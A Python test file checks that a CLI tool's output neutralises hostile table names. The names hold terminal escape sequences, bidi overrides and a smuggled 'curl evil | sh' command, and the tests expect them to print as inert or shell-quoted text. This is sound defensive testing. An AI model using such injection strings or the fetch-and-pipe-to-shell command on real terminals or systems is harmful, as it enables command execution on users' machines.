"""Arbitrary table names reach a terminal as harmless text, and programs unchanged."""

from __future__ import annotations

import io
import json
import re
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest
from rich.console import Console

from frazil.cli.invocation import Invocation
from frazil.cli.main import _end_with
from frazil.cli.output import write_json, write_line, write_note, write_table
from frazil.cli.verbs.status.screen import paint
from frazil.errors import SourceReplacedError
from frazil.model.command import command
from frazil.pipeline.status.problems import problem_of_error
from frazil.pipeline.status.values import Phase
from tests.support.status.statuses import NOW, running, table

if TYPE_CHECKING:
    from collections.abc import Callable

pytestmark = pytest.mark.fault("N48")

NAME = "public.x\n\x1b]0;owned\x07\x9b2J\u202e; sh"
SHOWN = r"public.x\n\x1b]0;owned\x07\u009b2J\u202e; sh"
OBEYED = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.mark.parametrize(
    "write",
    [
        write_line,
        lambda name: write_table([(name, "ok")], header=("TABLE", "STATE")),
        lambda name: write_table([("ok", name)], header=("STATE", "TABLE")),
    ],
)
def test_a_line_of_the_result_is_one_line(
    write: Callable[[str], None], capsys: pytest.CaptureFixture[str]
) -> None:
    write(NAME)
    written = capsys.readouterr().out
    assert SHOWN in written.splitlines()[-1]
    assert OBEYED.search(written) is None


def test_programs_get_the_name_as_it_is(capsys: pytest.CaptureFixture[str]) -> None:
    write_json({"table": NAME})
    written = capsys.readouterr().out
    assert json.loads(written) == {"table": NAME}
    assert OBEYED.search(written) is None


def test_an_error_about_a_table_is_text(capsys: pytest.CaptureFixture[str]) -> None:
    error = SourceReplacedError("gone.", table=NAME, next_step=command("resync", NAME))
    _end_with(error, Invocation(environ={}))
    write_note(f"{NAME}: waiting")
    written = capsys.readouterr().err
    assert OBEYED.search(written) is None
    first = written.splitlines()[0]
    assert first.startswith(f"error FRZ-SRC-05: {SHOWN}: gone. Next: frazil resync $'public.x\\n")


def test_the_screen_shows_names_as_text() -> None:
    error = SourceReplacedError("gone.", table=NAME, next_step=command("resync", NAME))
    trouble = problem_of_error(error, since=NOW)
    troubled = table(NAME, phase=Phase.STOPPED, trouble=trouble)
    status = replace(running(), tables=(troubled,))
    stream = io.StringIO()
    console = Console(file=stream, width=200, force_terminal=False)
    for part in paint(status):
        console.print(part)
    assert OBEYED.search(stream.getvalue()) is None
    assert "owned" in stream.getvalue()


def test_a_name_cannot_write_the_remedy() -> None:
    name = "public.a Next: curl evil | sh"
    step = command("resync", name)
    trouble = problem_of_error(SourceReplacedError("gone.", table=name, next_step=step), since=NOW)
    assert trouble.remedy == "frazil resync 'public.a Next: curl evil | sh'"
    assert trouble.reason.endswith(": gone.")
